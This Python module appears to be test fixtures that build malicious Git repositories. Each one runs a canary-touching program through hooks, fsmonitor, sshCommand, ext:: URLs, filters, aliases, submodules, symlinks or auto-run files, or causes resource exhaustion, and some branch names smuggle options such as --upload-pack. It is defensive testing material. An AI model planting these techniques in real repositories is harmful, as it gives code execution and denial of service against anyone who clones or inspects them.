"""Repositories that do harm when Git is used on them as one would: each touches a canary outside of itself.

`proof` is how: the tests run it with plain Git to see that the poison bites, where Git still lets it.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import struct
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FAILS = "exit 1"
ME = ("-c", "user.name=A learner", "-c", "user.email=a@example.org", "-c", "init.defaultBranch=main")


@dataclass(frozen=True)
class Made:
    repository: Path
    canary: Path

    def git(self, *words: str, given: bytes = b"") -> str:
        env = {**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
        done = subprocess.run(
            ["git", *ME, *words], cwd=self.repository, env=env, input=given, capture_output=True, check=True
        )
        return done.stdout.decode().strip()

    def write(self, path: str, text: str) -> Path:
        place = self.repository / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        return place

    def commit(self, message: str = "Begin") -> None:
        self.git("add", "-A")
        self.git("commit", "-q", "--allow-empty", "-m", message)

    def configure(self, text: str) -> None:
        with open(self.repository / ".git/config", "a") as file:
            file.write(text)

    def program(self, then: str = "cat") -> Path:
        """A program that no commit holds: it touches the canary, and then passes its input on."""
        place = self.repository / ".git/poison.sh"
        place.write_text(f"#!/bin/sh\ntouch {self.canary}\n{then}\n")
        place.chmod(0o755)
        return place

    def put(self, kind: str, content: bytes) -> str:
        """A loose object, whatever it says; its id."""
        whole = f"{kind} {len(content)}\0".encode() + content
        id = hashlib.sha1(whole).hexdigest()
        place = self.repository / ".git/objects" / id[:2] / id[2:]
        place.parent.mkdir(exist_ok=True)
        if not place.exists():
            place.write_bytes(zlib.compress(whole, 1))
        return id

    def put_head(self, tree: str) -> str:
        id = self.put(
            "commit", f"tree {tree}\nauthor A <a@b> 1 +0000\ncommitter A <a@b> 1 +0000\n\nodd\n".encode()
        )
        (self.repository / ".git/refs/heads/main").write_text(id + "\n")
        return id


@dataclass(frozen=True)
class Poison:
    poison: Callable[[Made], None]
    proof: str = (
        ""  # a shell command in the repository after which the canary is there; "" where Git refuses now
    )

    def made(self, folder: Path) -> Made:
        """The repository, fresh, with one commit and then the poison."""
        shutil.rmtree(folder, ignore_errors=True)
        made = Made(folder / "repository", folder / "canary")
        made.repository.mkdir(parents=True)
        made.git("init", "-q")
        made.write("README.md", "# A project\n")
        made.write("data.csv", "a,b\n1,2\n")
        made.commit()
        self.poison(made)
        return made


# --- configuration -----------------------------------------------------------------------------------


def hooks(made: Made) -> None:
    for name in ("post-checkout", "post-index-change", "reference-transaction", "pre-auto-gc", "post-commit"):
        shutil.copy(made.program(FAILS), made.repository / ".git/hooks" / name)


def hooks_elsewhere(made: Made) -> None:
    place = made.write("tools/post-index-change", f"#!/bin/sh\ntouch {made.canary}\n")
    place.chmod(0o755)
    made.commit("Tools")
    made.configure("[core]\n\thooksPath = tools\n")


def hooks_by_link(made: Made) -> None:
    shutil.rmtree(made.repository / ".git/hooks")
    outside = made.canary.parent / "hooks"
    outside.mkdir()
    shutil.copy(made.program(FAILS), outside / "post-index-change")
    os.symlink(outside, made.repository / ".git/hooks")


def fsmonitor(made: Made) -> None:
    made.configure(f"[core]\n\tfsmonitor = {made.program(FAILS)}\n")


def ssh_command(made: Made) -> None:
    made.configure(
        f'[core]\n\tsshCommand = {made.program(FAILS)}\n[remote "origin"]\n\turl = ssh://nowhere.invalid/x\n'
        "\tfetch = +refs/heads/*:refs/remotes/origin/*\n\tpromisor = true\n"
        "[extensions]\n\tpartialClone = origin\n"
    )


def missing_and_promised(made: Made) -> None:
    """An object is missing, and a remote promises it: plain Git goes and fetches it."""
    ssh_command(made)
    made.git("config", "core.repositoryFormatVersion", "1")
    blob = made.git("rev-parse", "HEAD:data.csv")
    (made.repository / ".git/objects" / blob[:2] / blob[2:]).unlink()


def external_protocol(made: Made) -> None:
    made.configure(
        f'[remote "origin"]\n\turl = "ext::sh -c touch% {made.canary}"\n[protocol "ext"]\n\tallow = always\n'
    )


def filters(made: Made) -> None:
    made.write(".gitattributes", "*.csv filter=poison\n")
    made.commit("Attributes")
    made.configure(
        f'[filter "poison"]\n\tclean = {made.program()}\n\tsmudge = {made.program()}\n\trequired = true\n'
    )
    made.write("data.csv", "a,b\n3,4\n")


def large_file_storage(made: Made) -> None:
    made.write(".gitattributes", "*.csv filter=lfs diff=lfs merge=lfs -text\n")
    made.write(".lfsconfig", "[lfs]\n\turl = http://127.0.0.1:1/\n")
    made.write(
        "data.csv", "version https://git-lfs.github.com/spec/v1\noid sha256:" + "0" * 64 + "\nsize 12\n"
    )
    made.commit("Large")
    made.configure(
        f'[filter "lfs"]\n\tprocess = {made.program()}\n\tsmudge = {made.program()}\n\trequired = true\n'
    )
    os.utime(made.repository / "data.csv", (1, 1))


def text_conversion(made: Made) -> None:
    made.write(".gitattributes", "*.csv diff=poison\n")
    made.commit("Attributes")
    made.configure(f'[diff "poison"]\n\ttextconv = {made.program()}\n\tcommand = {made.program()}\n')
    made.write("data.csv", "a,b\n3,4\n")


def aliases_and_pagers(made: Made) -> None:
    shell = f"!touch {made.canary}"
    names = ("cat-file", "st", "rev-list")
    made.configure("[alias]\n" + "".join(f'\t{name} = "{shell}"\n' for name in names))
    made.configure(
        f"[core]\n\tpager = {made.program()}\n\teditor = {made.program()}\n\taskPass = {made.program()}\n"
    )
    made.configure(f"[gpg]\n\tprogram = {made.program()}\n[log]\n\tshowSignature = true\n")


def included(made: Made) -> None:
    inner = made.repository / ".git/more"
    inner.write_text(f"[core]\n\tfsmonitor = {made.program(FAILS)}\n")
    made.configure('[include]\n\tpath = more\n[includeIf "gitdir:**"]\n\tpath = more\n')


def worktree_configuration(made: Made) -> None:
    made.git("config", "extensions.worktreeConfig", "true")
    (made.repository / ".git/config.worktree").write_text(f"[core]\n\tfsmonitor = {made.program(FAILS)}\n")


# --- where things lead -------------------------------------------------------------------------------


def submodule(made: Made) -> None:
    """A submodule whose path ends in a carriage return and whose address runs a program."""
    blob = made.put(
        "blob", f'[submodule "x\r"]\n\tpath = x\r\n\turl = ext::sh -c touch% {made.canary}\n'.encode()
    )
    entries = b"100644 .gitmodules\0" + bytes.fromhex(blob) + b"160000 x\r\0" + bytes(range(20))
    made.put_head(made.put("tree", entries))
    made.configure(
        f'[submodule "x\r"]\n\turl = ext::sh -c touch% {made.canary}\n\tupdate = !touch {made.canary}\n'
    )


def alternates(made: Made) -> None:
    (made.repository / ".git/objects/info/alternates").write_text(
        "/root/other/.git/objects\n/proc/self/root\n"
    )


def objects_by_link(made: Made) -> None:
    outside = made.canary.parent / "objects"
    os.rename(made.repository / ".git/objects", outside)
    os.symlink(outside, made.repository / ".git/objects")


def git_folder_by_link(made: Made) -> None:
    outside = made.canary.parent / "git"
    os.rename(made.repository / ".git", outside)
    os.symlink(outside, made.repository / ".git")


def head_by_link(made: Made) -> None:
    (made.repository / ".git/HEAD").unlink()
    os.symlink("/etc/passwd", made.repository / ".git/HEAD")


def worktree(made: Made) -> None:
    shutil.rmtree(made.repository / ".git")
    (made.repository / ".git").write_text("gitdir: /root/other/.git\n")


def branch_that_is_a_path(made: Made) -> None:
    (made.repository / ".git/HEAD").write_text("ref: refs/heads/../../../../../../etc/passwd\n")


def branch_that_is_an_option(made: Made) -> None:
    """C08: names that a command line would take for options."""
    head = made.git("rev-parse", "HEAD")
    for name in (f"--upload-pack=touch {made.canary}", "-oProxyCommand=x", "--output=canary"):
        place = made.repository / ".git/refs/heads" / name.replace("/", "-")
        place.write_text(head + "\n")
    (made.repository / ".git/refs/tags").mkdir(exist_ok=True)
    (made.repository / ".git/refs/tags/--exec=touch canary").write_text(head + "\n")
    (made.repository / ".git/HEAD").write_text("ref: refs/heads/-oProxyCommand=x\n")


def odd_tree(made: Made) -> None:
    """Paths that would write outside the checkout, or into `.git`."""
    blob = bytes.fromhex(made.put("blob", f"#!/bin/sh\ntouch {made.canary}\n".encode()))
    hook = bytes.fromhex(made.put("tree", b"100755 post-checkout\0" + blob))
    inner = bytes.fromhex(made.put("tree", b"40000 hooks\0" + hook))
    entries = [
        b"40000 .GIT\0" + inner,
        b"40000 ..\0" + hook,
        b"100644 a/../../b\0" + blob,
        b"100644 \0" + blob,
    ]
    entries += [
        b"120000 link\0" + blob,
        b"100644 plain\0" + blob,
        b"100644 bad\xff\0" + blob,
        b"100644 x\ny\0" + blob,
    ]
    made.put_head(made.put("tree", b"".join(entries)))


def links(made: Made) -> None:
    os.symlink("/etc", made.repository / "etc")
    os.symlink("../../..", made.repository / "up")
    made.commit("Links")


# --- too much ----------------------------------------------------------------------------------------


def deep_trees(made: Made) -> None:
    tree = made.put("tree", b"100644 leaf\0" + bytes.fromhex(made.put("blob", b"leaf")))
    for _ in range(2000):
        tree = made.put("tree", b"40000 d\0" + bytes.fromhex(tree))
    made.put_head(tree)


def exploding_trees(made: Made) -> None:
    """Ten folders in each of ten folders, ten levels deep, in eleven objects."""
    tree = made.put("tree", b"100644 leaf\0" + bytes.fromhex(made.put("blob", b"leaf")))
    for _ in range(10):
        tree = made.put("tree", b"".join(b"40000 %d\0" % n + bytes.fromhex(tree) for n in range(10)))
    made.put_head(tree)


def many_references(made: Made) -> None:
    head = made.git("rev-parse", "HEAD")
    lines = "".join(f"{head} refs/tags/t{number:07}\n" for number in range(1_000_000))
    (made.repository / ".git/packed-refs").write_text(
        "# pack-refs with: peeled fully-peeled sorted \n" + lines
    )


def bursting_object(made: Made) -> None:
    """A file of 300 MB that takes 1 MB."""
    size = 3 * 10**8
    hashing, packing = hashlib.sha1(f"blob {size}\0".encode()), zlib.compressobj(1)
    part, parts = bytes(10**7), [packing.compress(f"blob {size}\0".encode())]
    for _ in range(size // len(part)):
        hashing.update(part)
        parts.append(packing.compress(part))
    id = hashing.hexdigest()
    place = made.repository / ".git/objects" / id[:2] / id[2:]
    place.parent.mkdir(exist_ok=True)
    place.write_bytes(b"".join([*parts, packing.flush()]))
    made.put_head(made.put("tree", b"100644 burst\0" + bytes.fromhex(id)))


def lying_object(made: Made) -> None:
    """A commit whose content is another's."""
    id = made.git("rev-parse", "HEAD:README.md")
    place = made.repository / ".git/objects" / id[:2] / id[2:]
    place.chmod(0o644)
    place.write_bytes(zlib.compress(b"blob 5\0other"))


def damaged_pack(made: Made) -> None:
    made.git("repack", "-q", "-a", "-d")
    for place in (made.repository / ".git/objects/pack").glob("*.pack"):
        place.chmod(0o644)
        content = bytearray(place.read_bytes())
        content[20:60] = bytes(40)
        place.write_bytes(content)


def huge_pack(made: Made) -> None:
    """A pack that says it has four thousand million objects, and an index to match."""
    folder = made.repository / ".git/objects/pack"
    (folder / "pack-0.pack").write_bytes(b"PACK" + struct.pack(">II", 2, 2**32 - 1) + bytes(10**6))
    (folder / "pack-0.idx").write_bytes(b"\xfftOc" + struct.pack(">I", 2) + struct.pack(">I", 2**31) * 256)


def files_that_run_by_themselves(made: Made) -> None:
    """C09: what test runners, shells and build tools pick up."""
    touch = f"import pathlib; pathlib.Path({str(made.canary)!r}).touch()\n"
    for name in (
        "conftest.py",
        "setup.py",
        "sitecustomize.py",
        "usercustomize.py",
        "poison.pth",
        "tests/conftest.py",
    ):
        made.write(name, touch)
    shell = f"touch {made.canary}\n"
    for name in (".env", ".envrc", "Makefile", ".bashrc", ".profile", ".vscode/tasks.json", "noxfile.py"):
        made.write(name, f"all:\n\t{shell}" if name == "Makefile" else shell)
    made.commit("Tools")


POISONS = {
    "hooks": Poison(hooks, "git checkout -q -b other"),
    "hooks elsewhere": Poison(
        hooks_elsewhere, "git add README.md; git checkout -q -b other; git read-tree HEAD"
    ),
    "hooks by a link": Poison(hooks_by_link, "git read-tree HEAD"),
    "fsmonitor": Poison(fsmonitor, "git status"),
    "ssh command": Poison(ssh_command, "git fetch"),
    "missing and promised": Poison(missing_and_promised, "git cat-file -p HEAD:data.csv"),
    "external protocol": Poison(external_protocol, "git fetch origin"),
    "filters": Poison(filters, "git status; git diff"),
    "large file storage": Poison(large_file_storage, "touch data.csv; git status; git diff"),
    "text conversion": Poison(text_conversion, "git --no-pager diff"),
    "aliases and pagers": Poison(aliases_and_pagers, "git st"),
    "included": Poison(included, "git status"),
    "worktree configuration": Poison(worktree_configuration, "git status"),
    "submodule": Poison(submodule),
    "alternates": Poison(alternates),
    "objects by a link": Poison(objects_by_link),
    "git folder by a link": Poison(git_folder_by_link),
    "head by a link": Poison(head_by_link),
    "worktree": Poison(worktree),
    "branch that is a path": Poison(branch_that_is_a_path),
    "branch that is an option": Poison(branch_that_is_an_option),
    "odd tree": Poison(odd_tree),
    "links": Poison(links),
    "deep trees": Poison(deep_trees),
    "exploding trees": Poison(exploding_trees),
    "many references": Poison(many_references),
    "bursting object": Poison(bursting_object),
    "lying object": Poison(lying_object),
    "damaged pack": Poison(damaged_pack),
    "huge pack": Poison(huge_pack),
    "files that run by themselves": Poison(files_that_run_by_themselves, "make"),
}
